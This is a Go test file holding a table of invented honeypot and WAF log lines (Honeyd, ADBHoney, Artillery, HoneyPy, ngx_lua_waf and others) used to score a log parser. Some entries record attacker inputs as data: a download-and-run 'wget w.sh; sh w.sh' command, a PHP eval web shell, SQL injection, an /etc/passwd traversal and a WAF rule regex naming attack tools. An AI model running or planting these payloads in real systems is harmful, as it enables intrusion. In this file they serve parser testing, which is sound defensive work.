package parse

import "testing"

// The six-hundred-and-eighty-seventh fresh table: antivirus scanners, honeypots and web application
// firewalls, shapes no earlier table holds. Each family is one product's documented or observed
// output: Honeyd's packet-level connection log (a date and time joined by a dash, `tcp(6) S src
// sport dst dport [OS]`); qeeqbox/honeypots' terminal and file log (`[yyyy-MM-dd HH:mm:ss] [ssh]
// [connection] -> {json}`); ADBHoney's log file (Python logging `asctime - thread - ADBHoneypot -
// LEVEL - msg`); Binary Defense Artillery's alerts.log (`str(datetime.now()) [!] Artillery has
// detected …`) and the same alert in syslog; HoneyPy's twisted log (`yyyy-MM-dd HH:mm:ss,mmm,±hhmm
// [Plugin,session,ip] …`); ngx_lua_waf's attack log (`ip [yyyy-MM-dd HH:mm:ss] "METHOD hosturl"
// "data"  "ua" "ruletag"`) and a fork's backtick-separated attack log.
//
// Every candidate was grepped for in every parse/*_test.go by product and by a fragment of its line
// first (`clamav`, `clamd`, `freshclam`, `sophos`, `savdi`, `eset`, `esets`, `comodo`, `avast`,
// `f-secure`, `fsecure`, `kaspersky`, `kesl`, `mcafee`, `uvscan`, `bitdefender`, `bdscan`, `MPLog`,
// `mdatp`, `trend micro`, `maldet`, `malware detect`, `rkhunter`, `chkrootkit`, `lynis`, `clamtk`,
// `aide`, `loki`, `thor`, `yara`, `cowrie`, `dionaea`, `kippo`, `glastopf`, `conpot`, `honeytrap`,
// `tpot`, `t-pot`, `opencanary`, `heralding`, `tanner`, `snare`, `mailoney`, `adbhoney`,
// `elasticpot`, `honeyd`, `citrixhoneypot`, `log4pot`, `ddospot`, `wordpot`, `endlessh`, `sshesame`,
// `honeypy`, `modsecurity`, `modsec`, `naxsi`, `coraza`, `bunkerweb`, `open-appsec`, `shadowd`,
// `lua-resty-waf`, `safeline`, `wallarm`, `imperva`, `ASM:`, `fortiweb`, `barracuda`, `sucuri`,
// `crowdsec`, `fail2ban`, `ossec`, `wazuh`, `suricata`, `snort`, `zeek`, `samhain`, `tripwire`,
// `opensnitch`, `rspamd`, `amavis`, `spamassassin`, `sshguard`, `denyhosts`, `psad`, `portsentry`,
// `glutton`, `qeeqbox`, `galah`, `beelzebub`, `dicompot`, `medpot`, `redishoneypot`, `hellpot`,
// `go-pot`, `cuckoo`, `LibClamAV`, `Infected files`, `OWASP`, `REQUEST-9`, `Access denied with
// code`, `avgscan`, `sav-protect`, `savd`, `Windows Defender`, `MpCmdRun`, `netscaler`, `appfw`,
// `nemesida`, `mod_evasive`, `drweb`, `dr.web`, `drwcsd`, `mth:`, `symantec`, `cylance`,
// `malwarebytes`, `mbam`, `clamwin`, `immunet`, `clamxav`, `wordfence`, `ninjafirewall`, `honssh`,
// `artillery`, `Binary Defense`, `Artillery has detected`, `amun`, `nepenthes`, `mwcollect`,
// `thug`, `kojoney`, `sshpot`, `dshield`, `ironbee`, `vulture`, `janusec`, `ngx_lua_waf`,
// `ngx.localtime`, `_sec.log`, `Deny_URL`, `bitninja`, `talpa`, `klnagent`, `esets_daemon`, `fsav`,
// `fsaua`, `avira`, `savapi`, `zoner`, `trellix`, `xagt`, `ADBHoneypot`, `- ADBHoneypot -`,
// `tcp(6)`, `[connection] ->`, `] [ssh] [`, `Echo,`, `Log opened`, `[!]`, `message repeated`, `AM
// INF`, `PM INF`). None of Honeyd, qeeqbox/honeypots, ADBHoney, Artillery, HoneyPy or ngx_lua_waf
// is in any table (`artillery` matches only a load-testing tool's report, `Echo,` and `Log opened`
// other twisted programs, `[!]` and `message repeated` other senders). Left out as measured
// already: ClamAV (clamd, freshclam, clamscan, clamonacc), Sophos, ESET, Kaspersky, McAfee and
// Trellix, Windows Defender (MPLog, MpCmdRun), mdatp, maldet, rkhunter, chkrootkit, Lynis, AIDE,
// Loki and THOR, YARA, Dr.Web's server log, cowrie, dionaea, Conpot, OpenCanary, endlessh,
// ModSecurity, NAXSI, Coraza, BunkerWeb, FortiWeb, Barracuda, Imperva, F5 ASM, NetScaler AppFW,
// CrowdSec, fail2ban, mod_evasive, OSSEC and Wazuh. Left out as not confirmed by any search: Sophos
// savlog and SAVDI, Mailoney, HonSSH; left out because its zerolog console shape (`7:41AM INF`) is
// already in tables: HellPot. The table holds 8 families.
//
// It follows the same harness (table_test.go) and the same rules as the other tables (see the
// comment at the top of world_test.go): times in UTC with the table's clock (worldNow 2026-11-29
// 12:00, Location UTC). Honeyd's `2026-11-29-07:41:16.2181`, qeeqbox's bracketed stamp, ADBHoney's
// asctime, Artillery's `str(datetime.now())` and ngx_lua_waf's `ngx.localtime()` carry no zone and
// are taken as UTC. HoneyPy's stamp carries its offset after the milliseconds
// (`02:41:16,482,-0500` is 07:41:16.482Z). Artillery's alert in syslog carries the syslog time and
// its own: either is accepted; a `message repeated` line splits the inner stamp, so only the syslog
// time is its own. Levels only where the line marks one: ADBHoney's Python level names; Artillery's
// `[!]`, Honeyd's connection type letter (S, E, -), qeeqbox's `[connection]`/`[login]`, HoneyPy's
// events and ngx_lua_waf's rule tags are no levels. The host is the record's host field: only the
// syslog header's; honeypot and WAF peers, the honeypot's own listening address and ngx_lua_waf's
// server_name glued to the URL are no hosts. Each of these writes one line per record.
//
// The shapes come from the documentation, sources and issue threads each case names, found with the
// search tool (corpora "docs", "issues", "code", "pages"); where a search did not confirm a layout
// the source says "from memory". Hosts, ids, addresses, users and messages are invented, and every
// time is in late November 2026. The expectations were decided from the format before the table was
// first run, and none was changed after it; a family trawl still gets wrong carries a gap that says
// what it does not read, and it stays in the score.
//
// Its first figure, scored at commit 188306f before any rule for it: level 100.0 %, time 87.5 %, host 100.0 %, records 100.0 %.
// That is the macro figure (micro: level 100.0 %, time 86.7 %, host 100.0 %, records 100.0 %), in a
// worktree at 188306f with no change to trawl's code (only this file and table_test.go's list), 7 of
// 8 families fully right; the gap is HoneyPy's zone offset written after the milliseconds and a
// second comma (`,482,-0500`), which trawl drops, reading the local time as UTC.

var fresh687Cases = []worldCase{
	{
		name:   "honeyd-packet-log",
		source: "Honeyd's packet-level log (`honeyd -l file`: `yyyy-MM-dd-HH:mm:ss.ffff proto(n) T src sport dst dport: info [OS]`, T is S start, E end, - no connection): Provos and Holz, Virtual Honeypots, 4.8 Logging, figure 4.14 (found with the pages search); the fraction after the seconds from memory",
		why:    "a date and a time joined by a dash, no zone; `tcp(6)` is a protocol number, the S/E/- letter a connection type, no level; the source and destination addresses are peers, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.2181Z", Unknown, "", "2026-11-29-07:41:16.2181 tcp(6) S 198.51.100.23 51822 10.20.0.14 445 [Windows XP SP1]"),
			we("2026-11-29T07:41:57.0412Z", Unknown, "", "2026-11-29-07:41:57.0412 tcp(6) - 198.51.100.23 51830 10.20.0.17 8080: 48 S [Windows XP SP1]"),
			we("2026-11-29T07:42:09.5530Z", Unknown, "", "2026-11-29-07:42:09.5530 tcp(6) - 203.0.113.88 40211 10.20.0.22 23: 40 RA [FreeBSD 5.0-5.1]"),
			we("2026-11-29T07:45:48.1007Z", Unknown, "", "2026-11-29-07:45:48.1007 tcp(6) E 198.51.100.23 51822 10.20.0.14 445: 1873 412"),
			we("2026-11-29T07:46:20.6634Z", Unknown, "", "2026-11-29-07:46:20.6634 icmp(1) - 192.0.2.61 10.20.1.9: 8(0): 84"),
		},
	},
	{
		name:   "qeeqbox-honeypots-log",
		source: "qeeqbox/honeypots' terminal and file log (`[yyyy-MM-dd HH:mm:ss] [service] [action] -> {json}`): qeeqbox/honeypots issue #2 (a pasted console)",
		why:    "a bracketed zone-less date and time; `[ssh]` and `[login]` are a service and an action, no level; the attacker's ip in the JSON is a peer, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", `[2026-11-29 07:41:16] [ssh] [connection] -> {"ip": "198.51.100.41", "port": 50212}`),
			we("2026-11-29T07:41:19Z", Unknown, "", `[2026-11-29 07:41:19] [ssh] [login] -> {"ip": "198.51.100.41", "password": "qwerty123", "port": 50212, "status": "failed", "username": "oracle"}`),
			we("2026-11-29T07:43:02Z", Unknown, "", `[2026-11-29 07:43:02] [http] [connection] -> {"ip": "203.0.113.9", "port": 38814}`),
			we("2026-11-29T07:43:02Z", Unknown, "", `[2026-11-29 07:43:02] [http] [get] -> {"ip": "203.0.113.9", "port": 38814, "request": "/.env"}`),
		},
	},
	{
		name:   "adbhoney-log-file",
		source: "ADBHoney's output_log plugin (Python logging `%(asctime)s - %(thread)s - %(name)s - %(levelname)s - %(message)s`, logger ADBHoneypot): huuck/ADBHoney adbhoney/outputs/output_log.py (found with the code search); the messages from memory",
		why:    "Python's asctime with a comma before the milliseconds; the thread id is a long number, no time; the level name between dashes",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.118Z", Info, "", "2026-11-29 07:41:16,118 - 139921844250432 - ADBHoneypot - INFO - Listening on 0.0.0.0:5555."),
			we("2026-11-29T07:41:31.502Z", Info, "", "2026-11-29 07:41:31,502 - 139921801475840 - ADBHoneypot - INFO - 203.0.113.77	connection start (9c41e0b2d7a5)"),
			we("2026-11-29T07:41:31.877Z", Debug, "", "2026-11-29 07:41:31,877 - 139921801475840 - ADBHoneypot - DEBUG - <<<<CNXN 01000000 00001000 host::features=shell_v2,cmd,stat_v2"),
			we("2026-11-29T07:41:33.240Z", Info, "", "2026-11-29 07:41:33,240 - 139921801475840 - ADBHoneypot - INFO - 203.0.113.77	shell command: cd /data/local/tmp; busybox wget http://192.0.2.15/w.sh; sh w.sh"),
			we("2026-11-29T07:41:40.015Z", Error, "", "2026-11-29 07:41:40,015 - 139921801475840 - ADBHoneypot - ERROR - 203.0.113.77	connection reset by peer"),
		},
	},
	{
		name:   "artillery-alerts-log",
		source: "Binary Defense Artillery with SYSLOG_TYPE=FILE (alerts.log: `str(datetime.now()) [!] Artillery has detected an attack from IP address: ip for a connection on a honeypot port: port`): BinaryDefense/artillery src/honeypot.py (found with find_string)",
		why:    "Python's str(datetime) with microseconds and no zone; `[!]` is an alert marker, no level; the attacker's address is a peer, no host",
		entries: []worldEntry{
			we("2026-11-29T07:41:16.555030Z", Unknown, "", "2026-11-29 07:41:16.555030 [!] Artillery has detected an attack from IP address: 203.0.113.140 for a connection on a honeypot port: 1433"),
			we("2026-11-29T07:44:02.118204Z", Unknown, "", "2026-11-29 07:44:02.118204 [!] Artillery has detected an attack from IP address: 198.51.100.4 for a connection on a honeypot port: 5900"),
			we("2026-11-29T07:50:37.900431Z", Unknown, "", "2026-11-29 07:50:37.900431 [!] Artillery has blocked (and blacklisted) an attack from 198.51.100.4 for a connection to a honeypot restricted port 3389"),
		},
	},
	{
		name:   "artillery-in-syslog",
		source: "Binary Defense Artillery with SYSLOG_TYPE=LOCAL, its alert read in /var/log/syslog (`Mon dd HH:mm:ss host yyyy-MM-dd HH:mm:ss.ffffff [!] Artillery has detected …`, and rsyslog's `message repeated N times: [ … ]` splitting the inner stamp): a pasted syslog found with find_string, BinaryDefense/artillery src/honeypot.py",
		why:    "the syslog time and Artillery's own; the syslog host; a `message repeated` line whose inner stamp is split, so only the syslog time is its own",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z|2026-11-29T07:41:16.555030Z", Unknown, "bastion01", "Nov 29 07:41:16 bastion01 2026-11-29 07:41:16.555030 [!] Artillery has detected an attack from IP address: 203.0.113.140 for a connection on a honeypot port: 1433"),
			we("2026-11-29T07:41:18Z", Unknown, "bastion01", "Nov 29 07:41:18 bastion01 2026-11-29 message repeated 3 times: [ 07:41:16.555030 [!] Artillery has detected an attack from IP address: 203.0.113.140 for a connection on a honeypot port: 1433]"),
			we("2026-11-29T07:44:02Z|2026-11-29T07:44:02.118204Z", Unknown, "bastion01", "Nov 29 07:44:02 bastion01 2026-11-29 07:44:02.118204 [!] Artillery has detected an attack from IP address: 198.51.100.4 for a connection on a honeypot port: 5900"),
		},
	},
	{
		name:   "honeypy-twisted-log",
		source: "HoneyPy's honeypy.log (a twisted log `yyyy-MM-dd HH:mm:ss,mmm,±hhmm [prefix] …`; events `session TCP|UDP EVENT local_host local_port service remote_host remote_port data`): foospidy/HoneyPy lib/honeypy_logtail.py (the column list and the comma-split time, ms and zone); the `[Plugin,session,ip]` prefix spelling from memory",
		why:    "the milliseconds and the zone offset after commas; `[Echo,3,198.51.100.7]` is twisted's protocol prefix with the peer, no host; TCP CONNECT/RX are events, no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:10.004Z", Unknown, "", "2026-11-29 02:41:10,004,-0500 [-] Log opened."),
			we("2026-11-29T07:41:16.482Z", Unknown, "", "2026-11-29 02:41:16,482,-0500 [Echo,3,198.51.100.7] 6f1c2a9e-8b0d-4e51-a3f7-2c9d41e0b7aa TCP CONNECT 10.20.0.5 7 Echo 198.51.100.7 40122"),
			we("2026-11-29T07:41:16.730Z", Unknown, "", "2026-11-29 02:41:16,730,-0500 [Echo,3,198.51.100.7] 6f1c2a9e-8b0d-4e51-a3f7-2c9d41e0b7aa TCP RX 10.20.0.5 7 Echo 198.51.100.7 40122 48454c4f0d0a"),
			we("2026-11-29T07:42:55.019Z", Unknown, "", "2026-11-29 02:42:55,019,-0500 [Telnet,4,203.0.113.61] 0b7e5d21-44c9-4c3a-9f06-7ad2e1c5b903 TCP CONNECT 10.20.0.5 23 Telnet 203.0.113.61 52911"),
		},
	},
	{
		name:   "ngx-lua-waf-attack-log",
		source: "ngx_lua_waf's attack log (servername_yyyy-MM-dd_sec.log: `ip [ngx.localtime()] \"METHOD servername+url\" \"data\"  \"ua\" \"ruletag\"`, or `\"data\" - \"ruletag\"` without a user agent): loveshell/ngx_lua_waf init.lua and its forks (found with find_string)",
		why:    "an access-log-like line with a bracketed ISO-ish local time and no zone (UTC by the rules); the client ip first is a peer; the vhost glued to the URL is no host; the rule regex is no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", `198.51.100.7 [2026-11-29 07:41:16] "GET shop.example.org/item.php?id=1%20union%20select%201,2" "-"  "Mozilla/5.0 (X11; Linux x86_64) sqlmap/1.8" "select.+(from|limit)"`),
			we("2026-11-29T07:41:22Z", Unknown, "", `198.51.100.7 [2026-11-29 07:41:22] "UA shop.example.org/wp-login.php" "-"  "sqlmap/1.8#stable (https://sqlmap.org)" "(HTTrack|harvest|audit|dirbuster|pangolin|nmap|sqln|-scan|hydra|Parser|libwww|BBBike|sqlmap|w3af|owasp|Nikto|fimap|havij|PycURL|zmeu|BabyKrokodil|netsparker|httperf|bench)"`),
			we("2026-11-29T07:43:05Z", Unknown, "", `203.0.113.52 [2026-11-29 07:43:05] "POST shop.example.org/upload.php" "<?php eval($_POST[x]);?>" - "\<\?php"`),
		},
	},
	{
		name:   "lua-waf-backtick-attack-log",
		source: "an ngx_lua_waf fork's attack log (`[ngx.localtime()]`ip`servername`url`method`ua`data`ruletag\"`, backticks between the fields and a stray quote at the end): its waf.lua Log function (found with find_string on ngx_lua_waf's log line)",
		why:    "a bracketed zone-less date and time first, then backtick-separated fields; the client ip and the server name are no host; no level",
		entries: []worldEntry{
			we("2026-11-29T07:41:16Z", Unknown, "", "[2026-11-29 07:41:16]`198.51.100.7`api.example.org`/admin/config.php`GET`curl/8.5.0``Deny_URL\""),
			we("2026-11-29T07:41:40Z", Unknown, "", "[2026-11-29 07:41:40]`203.0.113.19`api.example.org`/index.php?file=../../etc/passwd`GET`Mozilla/5.0 (Windows NT 10.0; Win64; x64)``Deny_Args\""),
			we("2026-11-29T07:45:02Z", Unknown, "", "[2026-11-29 07:45:02]`203.0.113.19`api.example.org`/login`POST`python-requests/2.32.3`user=admin' or '1'='1`Deny_Post\""),
		},
	},
}

func TestFresh687Formats(t *testing.T) { assertTable(t, fresh687Cases) }
func TestFresh687Score(t *testing.T) {
	checkScore(t, "fresh687 formats", fresh687Cases, [worldNumFields]float64{99.9, 99.9, 99.9, 99.9})
}
